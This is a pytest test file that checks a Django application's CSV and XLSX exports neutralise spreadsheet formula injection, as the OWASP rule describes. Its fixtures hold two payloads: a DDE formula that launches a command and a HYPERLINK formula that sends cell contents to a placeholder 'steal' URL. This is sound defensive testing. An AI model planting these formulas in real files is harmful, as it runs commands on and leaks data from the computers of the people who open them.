"""Every CSV and XLSX export writes a text that a spreadsheet would take for a formula as text
(OWASP's CSV-injection rule): a leading apostrophe in CSV, a typed string cell in XLSX."""

import csv
import io

import pytest
from openpyxl import load_workbook

from followup.exports import as_text
from followup.tracking.actions import do_update_report
from followup.tracking.imports import import_items

pytestmark = pytest.mark.django_db

COMMAND = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://example.org/steal?d="&A1,"Details")'


@pytest.fixture
def payloads(people, parties, file_report):
    """An imported item whose text is a formula, in a file whose name is one; a published
    report whose narrative is one."""
    rows = f'kind,text\nmandate,"{COMMAND.replace(chr(34), chr(34) * 2)}"\n'
    import_items("@SUM(A1).csv", rows.encode(), people["analyst"])
    report = file_report()
    do_update_report(people["haiti"], report.pk, version=report.version, narrative=LINK)
    from followup.tracking.actions import do_transition_report

    for step, who in (("submit", "haiti"), ("validate", "analyst"), ("publish", "analyst")):
        do_transition_report(people[who], report.pk, step)
    return report


def csv_cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


EXPORTS = [
    # (address, the dangerous text it exports)
    ("/items/", COMMAND),
    ("/search/?q=calc", COMMAND),
    ("/documents/", "@SUM(A1).csv"),
    ("/reports/", LINK),
]


@pytest.mark.parametrize(("address", "dangerous"), EXPORTS)
def test_csv_exports_quote_formulas(client, payloads, address, dangerous):
    joiner = "&" if "?" in address else "?"
    cells = csv_cells(client.get(f"{address}{joiner}format=csv"))
    assert "'" + dangerous in cells
    assert dangerous not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(("address", "dangerous"), EXPORTS)
def test_xlsx_exports_write_formulas_as_text(client, payloads, address, dangerous):
    joiner = "&" if "?" in address else "?"
    cells = xlsx_cells(client.get(f"{address}{joiner}format=xlsx"))
    [cell] = [c for c in cells if c.value == dangerous]
    assert cell.data_type == "s"
    assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_compliance_export_keeps_numbers_as_numbers(client, payloads, export_format):
    response = client.get(f"/compliance/?by=country&format={export_format}")
    if export_format == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0][:3] == ["country", "label", "total"]
        assert rows[1][:3] == ["HT", "Haiti", "1"]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        header, first = list(sheet.iter_rows(max_row=2, values_only=True))
        assert header[:3] == ("country", "label", "total")
        assert first[:3] == ("HT", "Haiti", 1)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+34 600 000 000", "'+34 600 000 000"),
        ("-2 %", "'-2 %"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Plan of Action", "Plan of Action"),
        (-2, -2),
        (0.5, 0.5),
    ],
)
def test_a_cell_that_opens_a_formula_is_quoted(value, written):
    assert as_text(value) == written
